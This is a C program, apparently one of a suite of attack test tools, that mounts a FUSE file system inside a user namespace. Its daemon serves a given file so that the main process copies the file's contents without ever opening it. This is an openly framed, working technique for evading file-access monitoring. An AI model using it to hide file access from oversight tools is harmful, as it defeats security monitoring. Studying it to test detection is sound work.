/*
 * fuse SCAN TO: a file system of the attacker's own, in a user namespace: its daemon reads the scan on behalf of
 * a process that has never opened it and copies from the mount to TO.
 */
#include "attack.h"
#include <linux/fuse.h>
#include <sched.h>
#include <sys/mount.h>

static char scan[8 << 20];
static size_t size;

static void answer(int device, uint64_t unique, int error, const void *body, size_t length)
{
	static char reply[1 << 18];
	struct fuse_out_header head = { sizeof(head) + length, error, unique };

	memcpy(reply, &head, sizeof(head));
	memcpy(reply + sizeof(head), body, length);
	if (write(device, reply, head.len) < 0)
		perror("answer");
}

static struct fuse_attr attributes(uint64_t node)
{
	struct fuse_attr file = { .ino = node, .size = size, .mode = S_IFREG | 0444, .nlink = 1 };
	struct fuse_attr folder = { .ino = node, .mode = S_IFDIR | 0755, .nlink = 2 };

	return node == FUSE_ROOT_ID ? folder : file;
}

static void serve(int device, const char *path)
{
	static char request[1 << 18];
	struct fuse_in_header *head = (struct fuse_in_header *)request;
	struct fuse_init_out init = { .major = 7, .minor = 31, .max_write = 1 << 16, .max_readahead = 1 << 16 };
	struct fuse_open_out opened = { .fh = 1, .open_flags = FOPEN_DIRECT_IO };

	size = slurp(path, scan, sizeof(scan));
	while (read(device, request, sizeof(request)) > 0) {
		struct fuse_read_in *wish = (struct fuse_read_in *)(head + 1);
		struct fuse_entry_out entry = { .nodeid = 2, .attr = attributes(2) };
		struct fuse_attr_out attr = { .attr = attributes(head->nodeid) };

		switch (head->opcode) {
		case FUSE_INIT: answer(device, head->unique, 0, &init, sizeof(init)); break;
		case FUSE_LOOKUP: answer(device, head->unique, 0, &entry, sizeof(entry)); break;
		case FUSE_GETATTR: answer(device, head->unique, 0, &attr, sizeof(attr)); break;
		case FUSE_OPEN: answer(device, head->unique, 0, &opened, sizeof(opened)); break;
		case FUSE_READ: {
			size_t from = wish->offset < size ? wish->offset : size;
			size_t rest = size - from;
			answer(device, head->unique, 0, scan + from, rest < wish->size ? rest : wish->size);
			break;
		}
		case FUSE_RELEASE: case FUSE_FLUSH: answer(device, head->unique, 0, "", 0); break;
		case FUSE_FORGET: case FUSE_INTERRUPT: break;
		default: answer(device, head->unique, -ENOSYS, "", 0);
		}
	}
	_exit(0);
}

int main(int count, char **arguments)
{
	static char copied[8 << 20];
	char options[128], place[] = "/tmp/fuse.XXXXXX", file[64];

	if (count != 3)
		return 2;
	alarm(15);
	must(mkdtemp(place) ? 0 : -1, "mkdtemp");
	uid_t user = getuid();
	gid_t group = getgid();
	must(unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare");
	int map = must(open("/proc/self/uid_map", O_WRONLY), "uid_map");
	dprintf(map, "%d %d 1", user, user);
	close(map);
	int device = must(open("/dev/fuse", O_RDWR), "/dev/fuse");
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=%d,group_id=0", device, user);
	int groups = must(open("/proc/self/setgroups", O_WRONLY), "setgroups");
	dprintf(groups, "deny");
	close(groups);
	map = must(open("/proc/self/gid_map", O_WRONLY), "gid_map");
	dprintf(map, "0 %d 1", group);
	close(map);
	must(mount("fuse", place, "fuse", MS_NOSUID | MS_NODEV, options), "mount");
	pid_t daemon = must(fork(), "fork");
	if (!daemon)
		serve(device, arguments[1]);
	close(device);
	snprintf(file, sizeof(file), "%s/scan", place);
	spill(arguments[2], copied, slurp(file, copied, sizeof(copied)));
	umount2(place, MNT_DETACH);
	kill(daemon, SIGKILL);
	waitpid(daemon, NULL, 0);
	rmdir(place);
	return 0;
}
